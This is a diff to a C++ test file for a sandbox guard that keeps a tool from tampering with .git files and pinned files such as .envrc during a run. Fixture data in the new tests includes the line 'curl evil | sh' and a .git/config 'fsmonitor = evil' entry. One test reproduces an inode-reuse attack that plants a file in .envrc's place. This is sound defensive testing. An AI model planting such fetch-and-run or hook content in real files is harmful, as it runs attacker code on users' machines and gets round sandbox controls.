@@ -103,7 +103,8 @@ TEST(GuardNames, TheList) {
 
 TEST(GuardNames, GitWritable) {
   for (const char* n : {"objects", "refs", "logs", "index", "HEAD", "ORIG_HEAD", "index.lock",
-                        "sharedindex.abc", "packed-refs", "COMMIT_EDITMSG"})
+                        "sharedindex.abc", "packed-refs", "COMMIT_EDITMSG", "packed-refs.new", "index.stash.12278",
+                        "BISECT_LOG", "BISECT_START", "REBASE_HEAD", "MERGE_AUTOSTASH"})
     EXPECT_TRUE(gitWritable(n)) << n;
   for (const char* n : {"config", "hooks", "info", "commondir", "config.worktree", "worktrees", "modules",
                         "rebase-merge", "sequencer", ".lock"})
@@ -989,6 +990,83 @@ TEST_F(GuardPlanTest, AWritableGitDirectoryIsKeptAfterLostEventsAndARenameBack) 
   EXPECT_FALSE(t_.exists(".git"));
   EXPECT_TRUE(t_.exists("g/objects/ab/cdef"));
   guard_.finish();
+}
+
+// A pinned file is a mount point in the sandbox, so only something outside it replaces it during
+// the run (an editor saving .envrc by rename, `git push -u` rewriting .git/config). What replaced
+// it is not pinned (the sandbox's mount went with the old one), so the tool could write to it: it
+// is removed, and the file as it was before the run is put back once the run is over, not lost.
+TEST_F(GuardPlanTest, APinnedFileReplacedFromOutsideIsPutBackAsItWasAfterTheRun) {
+  t_.gitDir(".git");
+  t_.write(".git/config", "[remote \"origin\"]\n\turl = mine\n");
+  t_.write(".envrc", "export A=1\n");
+  ::chmod((t_ / ".envrc").c_str(), 0640);
+  GuardSpec spec;
+  spec.gitWrite = true;
+  plan(spec);
+  ASSERT_GE(guard_.watchFd(), 0);
+  auto replace = [&](const std::string& rel, const std::string& text) {
+    t_.write(rel + ".new", text);
+    stdfs::rename(t_ / (rel + ".new"), t_ / rel);
+  };
+  replace(".git/config", "[core]\n\tfsmonitor = evil\n");
+  replace(".envrc", "curl evil | sh\n");
+  t_.write(".vscode/tasks.json", "{}");  // new: removed, nothing to put back
+  drain(guard_);
+  EXPECT_FALSE(t_.exists(".git/config")) << "removed during the run";
+  replace(".envrc", "again\n");  // after the watch removed the first one: removed after the run
+  testing::internal::CaptureStderr();
+  guard_.finish();
+  std::string said = testing::internal::GetCapturedStderr();
+  std::stringstream config, envrc;
+  config << std::ifstream(t_ / ".git/config").rdbuf();
+  envrc << std::ifstream(t_ / ".envrc").rdbuf();
+  EXPECT_EQ(config.str(), "[remote \"origin\"]\n\turl = mine\n");
+  EXPECT_EQ(envrc.str(), "export A=1\n");
+  struct stat st;
+  ASSERT_EQ(::stat((t_ / ".envrc").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07777, 0640u);
+  EXPECT_FALSE(t_.exists(".vscode")) << said;
+  for (const char* rel : {".git/config", ".envrc"})
+    EXPECT_NE(said.find(std::string(rel) + " was replaced during the run from outside the sandbox"), std::string::npos)
+        << said;
+  EXPECT_EQ(said.find("restoring"), std::string::npos) << said;
+  std::vector<std::string> left;
+  for (const auto& e : stdfs::directory_iterator(t_.path())) left.push_back(e.path().filename());
+  for (const auto& e : stdfs::directory_iterator(t_ / ".git")) left.push_back(e.path().filename());
+  for (const auto& name : left) EXPECT_EQ(name.find(".coco-guard"), std::string::npos) << name;
+}
+
+// Attack: the guard knew your entries by inode number, and a pinned one removed from outside the
+// sandbox (an editor's save by rename frees the old .envrc's) gave its number to whatever came
+// next: the tool made files until one got it and named it .envrc, and both the watch and the check
+// after the run took it for yours. Pinned entries are now held open for the run.
+TEST_F(GuardPlanTest, AnInodeFreedOutsideTheSandboxIsNotTakenForYours) {
+  t_.write(".envrc", "export A=1\n");
+  plan();
+  ASSERT_GE(guard_.watchFd(), 0);
+  struct stat st;
+  ASSERT_EQ(::stat((t_ / ".envrc").c_str(), &st), 0);
+  ino_t mine = st.st_ino;
+  ASSERT_EQ(::unlink((t_ / ".envrc").c_str()), 0);
+  bool reused = false;
+  for (int i = 0; i < 2000 && !reused; ++i) {
+    std::string name = "f" + std::to_string(i);
+    t_.write(name, "curl evil | sh\n");
+    ASSERT_EQ(::stat((t_ / name).c_str(), &st), 0);
+    if (st.st_ino == mine) {
+      stdfs::rename(t_ / name, t_ / ".envrc");
+      reused = true;
+    } else {
+      stdfs::remove(t_ / name);
+    }
+  }
+  if (!reused) t_.write(".envrc", "curl evil | sh\n");
+  drain(guard_);
+  guard_.finish();
+  std::stringstream envrc;
+  envrc << std::ifstream(t_ / ".envrc").rdbuf();
+  EXPECT_EQ(envrc.str(), "export A=1\n") << (reused ? "the tool's file got your .envrc's inode number" : "");
 }
 
 TEST_F(GuardPlanTest, SymlinksArePinnedWithTheEmptyFile) {
